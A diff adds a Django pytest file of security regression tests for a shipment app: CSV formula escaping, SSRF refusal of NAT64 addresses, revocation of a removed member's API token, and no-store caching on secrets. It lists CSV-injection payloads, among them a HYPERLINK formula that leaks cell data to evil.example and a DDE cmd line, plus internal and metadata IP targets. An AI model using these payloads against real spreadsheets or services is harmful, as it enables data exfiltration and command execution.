@@ -1,0 +1,104 @@
+"""Formula-safe CSV cells, NAT64 webhook targets, tokens of removed members, and no-store on shown secrets."""
+
+import csv
+import io
+import json
+from collections.abc import Callable
+
+import pytest
+from django.core.files.base import ContentFile
+from django.test import Client
+
+from waybill_contracts.enums import Role
+from waybill_django.accounts.models import User
+from waybill_django.api.tokens import api_token_create
+from waybill_django.imports.services import shipment_import_run, shipment_import_start
+from waybill_django.organizations.models import Membership, Organization
+from waybill_django.organizations.services import (
+    invitation_accept,
+    invitation_create,
+    invitation_token,
+    membership_remove,
+)
+from waybill_django.webhooks.targets import TargetRefused, resolve_target
+
+pytestmark = pytest.mark.django_db
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+SUM(1+1)",
+    "-2+3",
+    "@SUM(A1)",
+    "=cmd|' /C calc'!A0",
+]
+
+
+def test_formulas_in_the_import_error_report_are_inert(organization: Organization, dispatcher: User) -> None:
+    rows = "reference,origin_address,destination_address\n" + "".join(
+        f'"{formula.replace(chr(34), chr(34) * 2)}",,B\n' for formula in FORMULAS
+    )
+    started = shipment_import_start(
+        organization=organization, actor=dispatcher, upload=ContentFile(rows.encode(), name="f.csv")
+    )
+    finished = shipment_import_run(job_id=started.pk)
+    assert finished is not None
+    with finished.error_report.open("rb") as report:
+        references = [row[1] for row in list(csv.reader(io.StringIO(report.read().decode())))[1:]]
+
+    assert references == ["'" + formula for formula in FORMULAS]
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://[64:ff9b::7f00:1]/",  # 127.0.0.1
+        "http://[64:ff9b::a9fe:a9fe]/",  # 169.254.169.254, the cloud metadata address
+        "http://[64:ff9b::a00:1]/",  # 10.0.0.1
+        "http://[64:ff9b:1::808:808]/",  # the local-use prefix, whatever it embeds
+    ],
+)
+def test_nat64_addresses_embedding_private_ones_are_refused(url: str) -> None:
+    with pytest.raises(TargetRefused):
+        resolve_target(url, allow_private=False)
+
+
+def test_a_nat64_address_embedding_a_public_one_is_allowed() -> None:
+    assert (
+        resolve_target("http://[64:ff9b::808:808]/", allow_private=False).url == "http://[64:ff9b::808:808]/"
+    )
+
+
+def test_a_removed_members_api_token_stays_dead_after_they_are_invited_again(
+    client: Client, organization: Organization, make_member: Callable[..., User]
+) -> None:
+    owner = make_member(Role.OWNER, "owner@acme.test")
+    admin = make_member(Role.ADMIN, "admin@acme.test")
+    _, secret = api_token_create(organization=organization, actor=admin, name="theirs")
+    membership_remove(membership=Membership.objects.get(user=admin, organization=organization), actor=owner)
+    invitation = invitation_create(organization=organization, email=admin.email, role=Role.ADMIN, actor=owner)
+    invitation_accept(token=invitation_token(invitation), user=admin)
+
+    response = client.get("/api/v1/shipments", headers={"Authorization": f"Bearer {secret}"})
+
+    assert response.status_code == 401
+
+
+def test_responses_that_show_a_token_secret_are_never_stored(
+    client: Client, organization: Organization, make_member: Callable[..., User]
+) -> None:
+    owner = make_member(Role.OWNER, "owner@acme.test")
+    client.force_login(owner)
+
+    page = client.post("/settings/tokens/", {"name": "ERP"})
+    api = client.post(
+        "/api/v1/tokens",
+        json.dumps({"name": "ERP 2"}),
+        content_type="application/json",
+        headers={"X-CSRFToken": client.cookies["csrftoken"].value} if "csrftoken" in client.cookies else {},
+    )
+
+    assert page.status_code == 200
+    assert "wbt_" in page.content.decode()
+    assert page["Cache-Control"] == "no-store"
+    assert api.status_code == 201, api.content
+    assert api["Cache-Control"] == "no-store"
